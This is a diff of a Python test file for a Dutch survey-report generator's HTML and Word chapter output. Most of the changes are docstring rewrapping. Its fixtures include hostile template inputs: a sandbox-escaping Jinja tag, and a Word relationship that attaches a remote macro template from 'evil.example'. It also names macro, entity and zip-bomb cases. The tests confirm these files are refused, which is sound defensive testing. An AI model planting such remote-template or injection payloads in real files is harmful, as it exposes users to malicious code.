@@ -1,4 +1,6 @@
-"""Chapters as HTML and Word: sentences that follow the numbers, pictures with words, real styles, templates that can do no harm."""
+"""Chapters as HTML and Word: sentences that follow the numbers, pictures with words, real styles,
+templates that can do no harm.
+"""
 
 from __future__ import annotations
 
@@ -17,8 +19,8 @@ from samples import edges, summary
 
 from pipeline.counts import RunSummary
 from pipeline.errors import MissingExtraError, UnreadableFileError
-from pipeline.report.chapters import chapters_html, chapters_word, check_template
-from pipeline.report.chapters.chapter import chapters_of, picture_alt
+from pipeline.report.chapters import chapters_html, chapters_word, check_template, picture_alt
+from pipeline.report.chapters.chapter import chapters_of
 from pipeline.report.chapters.word import _DOT
 from pipeline.report.pictures import Picture
 
@@ -56,7 +58,9 @@ def texts(document: Any) -> str:
 
 
 def test_words_follow_numbers() -> None:
-    """A chapter names as increased what is, keeps silent on hidden themes, and tells its base and filter."""
+    """A chapter names as increased what is, keeps silent on hidden themes, and tells its base and
+    filter.
+    """
     chapter = chapters_of(rich())[0]
     assert chapter.lead == LEAD
     assert chapter.change == "Toegenomen sinds 2024: Efficiënter werken."
@@ -67,7 +71,9 @@ def test_words_follow_numbers() -> None:
 
 
 def test_nothing_changed_is_said_of_what_is_shown() -> None:
-    """Without a shown change the sentence says so, and speaks of the themes shown where one is hidden."""
+    """Without a shown change the sentence says so, and speaks of the themes shown where one is
+    hidden.
+    """
     made = rich()
     question = made.questions[0]
     calm = tuple(
@@ -84,7 +90,9 @@ def test_nothing_changed_is_said_of_what_is_shown() -> None:
 
 
 def test_hidden_figures_show_nowhere() -> None:
-    """A hidden figure is a word in tables, and no part of sentences, alternative texts or the order of rows."""
+    """A hidden figure is a word in tables, and no part of sentences, alternative texts or the order
+    of rows.
+    """
     made = rich()
     chapter = chapters_of(made)[0]
     rows = {row.label: row.cells for row in chapter.table.rows}
@@ -97,7 +105,7 @@ def test_hidden_figures_show_nowhere() -> None:
 
 
 class _Tags(HTMLParser):
-    """Collects the tags of a page with their attributes, and complains about one that isn't closed."""
+    """Collects the tags of a page with their attributes; complains about one that isn't closed."""
 
     def __init__(self) -> None:
         super().__init__()
@@ -133,7 +141,9 @@ def test_html_is_whole_and_does_nothing(make: Callable[[], RunSummary]) -> None:
 
 
 def test_html_fragment() -> None:
-    """A question's file is a section with its language, table and quotes, to be put into another page."""
+    """A question's file is a section with its language, table and quotes, to be put into another
+    page.
+    """
     fragment = html(rich())["chapters/voordelen.html"]
     assert fragment.startswith('<section class="turven-chapter" id="voordelen" lang="nl">')
     assert "&lt;b&gt;uren&lt;/b&gt; per week &amp; [NAAM]" in fragment
@@ -145,7 +155,9 @@ def test_html_fragment() -> None:
 
 
 def test_word_book(book: Any) -> None:
-    """The book has real headings, captions and quotes, a table that repeats its head, and says what the HTML says."""
+    """The book has real headings, captions and quotes, a table that repeats its head, and says what
+    the HTML says.
+    """
     styles = [(p.style.name, p.text) for p in book.paragraphs]
     assert ("Title", "AI Monitor Gemeenten 2025") in styles
     assert next(text for style, text in styles if style == "Heading 1") == "Voordelen van AI"
@@ -171,7 +183,9 @@ def test_word_is_accessible(book: Any) -> None:
 
 
 def test_word_is_valid_where_word_is_strict(book: Any) -> None:
-    """Settings of tables stand in the order that Word wants, columns add up to the text's width, ids of pictures differ."""
+    """Settings of tables stand in the order that Word wants, columns add up to the text's width,
+    ids of pictures differ.
+    """
     order = ["tblStyle", "tblW", "jc", "tblInd", "tblBorders", "tblLayout", "tblLook"]
     for table in book.tables:
         found = [child.tag.split("}")[1] for child in table._tbl.tblPr]
@@ -184,7 +198,10 @@ def test_word_is_valid_where_word_is_strict(book: Any) -> None:
 
 
 def test_word_has_a_file_for_each_question() -> None:
-    """Each question has a document of its own, without the book's title page; the template is there to take and change."""
+    """Each question has a document of its own, without the book's title page.
+
+    The template is there to take and change.
+    """
     files = word(rich())
     assert set(files) == {
         "chapters.docx",
@@ -276,9 +293,11 @@ def test_the_template_that_we_give_can_be_given_back(tmp_path: Path) -> None:
         ("{{ questions.append(1) }}", "unsafe"),
         ("{{ 1 / 0 }}", "division by zero"),
     ],
-)  # fmt: skip
+)
 def test_broken_and_hostile_tags_are_told_in_a_line(tmp_path: Path, line: str, said: str) -> None:
-    """A tag that asks for what isn't there, or for more than a template may, is one line that names the file."""
+    """A tag that asks for what isn't there, or for more than a template may, is one line that names
+    the file.
+    """
     with pytest.raises(UnreadableFileError) as told:
         check_template(template(tmp_path / "kwaad.docx", line))
     assert "kwaad.docx" in str(told.value)
@@ -298,9 +317,10 @@ def changed(path: Path, name: str, content: bytes) -> Path:
 
 
 REMOTE = (
-    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
-    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" '
-    b'TargetMode="External"/></Relationships>'
+    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+    b'<Relationship Id="rId1" '
+    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
+    b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
 )
 
 
@@ -317,7 +337,9 @@ REMOTE = (
     ids=["macro", "object", "remote", "entities", "broken", "bomb"],
 )
 def test_hostile_files_are_refused(tmp_path: Path, name: str, content: bytes, said: str) -> None:
-    """A template with macros, embedded objects, remote parts, entities, damage or a bomb is refused in one line."""
+    """A template with macros, embedded objects, remote parts, entities, damage or a bomb is refused
+    in one line.
+    """
     with pytest.raises(UnreadableFileError, match=said):
         check_template(changed(tmp_path / "t.docx", name, content))
 
